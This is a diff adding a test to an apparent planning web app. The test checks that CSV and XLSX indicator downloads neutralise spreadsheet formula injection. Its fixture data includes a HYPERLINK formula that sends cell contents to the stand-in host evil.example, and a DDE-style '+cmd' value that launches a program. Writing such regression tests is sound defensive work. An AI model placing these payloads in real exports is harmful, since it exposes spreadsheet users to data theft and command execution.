@@ -67,6 +67,39 @@ def test_downloads(client):
     assert book.active["C2"].value == 11
 
 
+def test_downloads_never_carry_a_formula(client, sapporo):
+    """Text from a loaded plan that a spreadsheet would run stays text in the CSV and the XLSX."""
+    from dataclasses import replace
+
+    from machiplan.plans.services import plan_load
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    ind = next(i for i in sapporo.indicators if i.code == "2e")
+    hostile = replace(
+        ind,
+        name="@SUM(A1)",
+        observations=tuple(
+            replace(o, source_text=formula, note="+cmd|' /C calc'!A0") for o in ind.observations
+        ),
+        targets=tuple(replace(t, source_text=formula) for t in ind.targets),
+    )
+    plan_load(
+        plan=replace(sapporo, indicators=tuple(hostile if i is ind else i for i in sapporo.indicators)),
+        replace=True,
+    )
+    cache.clear()
+    rows = list(
+        csv.reader(io.StringIO(client.get(f"{PLAN}indicators/2e/download.csv").content.decode("utf-8-sig")))
+    )
+    cells = [c for row in rows for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
+    assert {"'" + formula, "'@SUM(A1)", "'+cmd|' /C calc'!A0"} <= set(cells)
+    book = load_workbook(io.BytesIO(client.get(f"{PLAN}indicators/2e/download.xlsx").content))
+    cells = [c for row in book.active.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert [c.value for c in cells if c.value == formula] and book.active["C2"].value == 11
+
+
 def test_unknown_things_are_404_without_details(client):
     for url in (
         "/plans/nope/",
